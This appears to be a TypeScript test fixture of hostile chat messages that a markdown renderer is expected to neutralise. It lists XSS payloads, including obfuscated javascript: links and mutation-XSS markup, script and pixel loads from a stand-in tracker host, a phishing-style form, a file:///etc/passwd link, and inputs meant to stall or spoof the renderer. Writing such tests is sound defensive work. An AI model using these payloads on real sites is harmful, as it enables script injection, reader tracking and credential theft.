/** What somebody might write who wishes the others ill. What would run sets `window.hacked`, and what would load asks the host here. */
const host = "https://tracker.example";
const run = "window.hacked=1";

/** Messages that must stay text. */
export const html: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src="${host}/x.js"></sCrIpT>`,
  `<img src=x onerror="${run}">`,
  `<img src="${host}/pixel.png">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<iframe src="${host}"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<style>@import "${host}/x.css"; * { display: none !important }</style>`,
  `<link rel=stylesheet href="${host}/x.css">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<body onload="${run}"><input autofocus onfocus="${run}">`,
  `<video src="${host}/x.mp4" autoplay onloadstart="${run}"></video>`,
  `<object data="${host}/x.swf"></object><embed src="${host}/x.swf">`,
  `<form action="${host}"><button>Sign in again</button></form>`,
  `<base href="${host}/"><meta http-equiv="refresh" content="0;url=${host}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<div style="position:fixed;inset:0;background:url(${host}/x.png)">x</div>`,
  `\`\`\`html\n<script>${run}</script><img src=x onerror="${run}">\n\`\`\``,
  `|<script>${run}</script>|<img src=x onerror="${run}">|\n|-|-|\n|<svg onload="${run}">|x|`,
];

/** Links that must lead nowhere. */
export const links: readonly string[] = [
  `[click me](javascript:${run})`,
  `[click me](JaVaScRiPt:${run})`,
  `[click me](&#106;&#x61;vascript:${run})`,
  `[click me](javascript&colon;${run})`,
  `[click me](java\tscript:${run})`,
  `[click me](<java\u0001script:${run}>)`,
  `[click me](\u0001javascript:${run})`,
  `[click me](vbscript:msgbox(1))`,
  `[click me](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[click me](file:///etc/passwd)`,
  `[click me](blob:${host}/1)`,
  `<javascript:${run}>`,
  `![click me](javascript:${run})`,
  `![click me](data:image/svg+xml,<svg/onload=${run}>)`,
  `[click me][1]\n\n[1]: javascript:${run}`,
];

/** Pictures that would tell their server who reads the message. */
export const pictures: readonly string[] = [`![a cat](${host}/cat.png)`, `[![a cat](${host}/cat.png)](https://example.com)`, `![a cat][1]\n\n[1]: ${host}/cat.png`];

/** Messages that would make a page slow, wide or unreadable. Each says "hostile" somewhere, and is shorter than the limit. */
export const heavy: Readonly<Record<string, string>> = {
  "a table of 60 columns and 200 rows": `hostile\n\n${"|a".repeat(60)}|\n${"|-".repeat(60)}|\n${`${"|".repeat(61)}\n`.repeat(200)}`,
  "a wide table": `hostile\n\n${"|wide column".repeat(60)}|\n${"|-".repeat(60)}|\n${"|x".repeat(60)}|`,
  "a line of 10,000 characters": `hostile${"m".repeat(10_000)}`,
  "a line of 10,000 characters of code": `hostile \`${"m".repeat(10_000)}\``,
  "a code block with a line of 10,000 characters": `hostile\n\n\`\`\`ts\n${"const x = 1; ".repeat(770)}\n\`\`\``,
  "a link of 10,000 characters": `hostile https://example.com/${"m".repeat(10_000)}`,
  "quotes nested 200 deep": `${"> ".repeat(200)}hostile`,
  "lists nested 100 deep": Array.from({ length: 100 }, (_, depth) => `${"  ".repeat(depth)}- hostile`).join("\n"),
  "lists nested in one line": `${"- ".repeat(2_000)}hostile`,
  "opening brackets": `hostile ${"[".repeat(15_000)}`,
  "links that never close": `hostile ${"[a](".repeat(3_900)}`,
  "emphasis that never closes": `hostile ${"*a_ ".repeat(3_900)}`,
  "backticks of every length": `hostile ${Array.from({ length: 170 }, (_, length) => "`".repeat(length)).join(" ")}`,
  "letters from right to left": `hostile \u202E\u202E\u2067 gpj.exe \u202E ${"\u202Eright to left ".repeat(200)}`,
  "marks upon marks": `hostile ${`Z${"\u0301\u0300\u0334".repeat(100)}`.repeat(20)}`,
  "characters outside of the basic plane": `hostile ${"👩‍👩‍👧‍👦🏳️‍🌈𝒳".repeat(300)}`,
  "a headline of headlines": "# hostile\n".repeat(300),
};
